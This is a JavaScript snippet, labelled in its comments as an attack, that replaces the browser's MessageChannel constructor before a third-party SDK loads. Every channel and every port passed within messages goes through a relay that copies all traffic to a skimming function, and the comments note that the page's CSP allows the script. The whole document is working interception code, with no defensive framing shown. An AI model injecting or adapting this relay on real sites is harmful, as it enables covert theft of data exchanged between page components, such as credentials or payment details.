// Attack: replace window.MessageChannel before the SDK loads with a relay that copies everything
// that passes, on every port, including ports carried inside messages. An ordinary <script src>:
// the page's CSP allows it.
(function () {
  var Real = (window.__RealMessageChannel = window.MessageChannel);
  function relay(what, port) {
    // A port handed over by someone else: put ourselves between it and its new owner.
    var inner = new Real();
    port.onmessage = function (e) {
      window.__skim(what + ' in', e.data);
      inner.port1.postMessage(e.data, Array.prototype.map.call(e.ports, function (p) { return relay(what + ' nested', p); }));
    };
    inner.port1.onmessage = function (e) {
      window.__skim(what + ' out', e.data);
      port.postMessage(e.data, Array.prototype.map.call(e.ports, function (p) { return relay(what + ' nested', p); }));
    };
    return inner.port2;
  }
  window.MessageChannel = function MessageChannel() {
    var a = new Real();
    var b = new Real();
    a.port2.onmessage = function (e) {
      window.__skim('channel a->b', e.data);
      b.port1.postMessage(e.data, Array.prototype.map.call(e.ports, function (p) { return relay('channel a->b port', p); }));
    };
    b.port1.onmessage = function (e) {
      window.__skim('channel b->a', e.data);
      a.port2.postMessage(e.data, Array.prototype.map.call(e.ports, function (p) { return relay('channel b->a port', p); }));
    };
    return { port1: a.port1, port2: b.port2 };
  };
})();
